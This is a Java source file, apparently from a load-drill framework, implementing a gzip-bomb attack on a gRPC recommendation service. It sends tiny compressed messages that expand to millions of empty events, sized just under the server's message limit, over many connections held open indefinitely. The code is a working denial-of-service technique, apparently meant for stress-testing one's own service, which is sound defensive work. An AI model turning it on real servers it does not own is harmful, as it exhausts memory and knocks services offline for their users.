package dev.dolmen.traffic.drill.attack;

import java.io.IOException;
import java.nio.ByteBuffer;

/**
 * Calls that never end, on many connections: of each one message comes, 4 KB by the network, 4 MB
 * decompressed, of empty events of a session, so that as objects it is larger yet.
 */
public final class GzipBombs implements Attack {
  private static final int CONNECTIONS = 20;
  private static final int CALLS = 10;
  private static final int LOOK_MS = 50;

  /** Below the default of {@code server.limits.max_message_bytes}. */
  private static final int EVENTS = 2_080_000;

  private static final String[] HEADERS = {"grpc-encoding", "gzip"};

  @Override
  public void start(AttackRun run) {
    byte[] message = GrpcBytes.gzip(emptyEvents());
    run.repeat(CONNECTIONS, () -> holdOpen(run, message));
  }

  private static void holdOpen(AttackRun run, byte[] message)
      throws IOException, InterruptedException {
    try (FrameConnection connection = run.frames()) {
      while (run.goesOn()) {
        while (connection.calls() < CALLS) {
          int stream = connection.call(Methods.RECOMMEND, HEADERS);
          connection.data(stream, message, false);
        }
        connection.flush();
        Thread.sleep(LOOK_MS);
      }
    }
  }

  /** RecommendRequest.session (1), in it SessionContext.events (2), each of length 0. */
  private static byte[] emptyEvents() {
    byte[] session = new byte[2 * EVENTS];
    for (int i = 0; i < session.length; i += 2) {
      session[i] = 2 << 3 | 2;
    }
    ByteBuffer request = ByteBuffer.allocate(session.length + 5).put((byte) (1 << 3 | 2));
    int length = session.length;
    for (; length >= 0x80; length >>>= 7) {
      request.put((byte) (length | 0x80));
    }
    request.put((byte) length).put(session);
    return java.util.Arrays.copyOf(request.array(), request.position());
  }
}
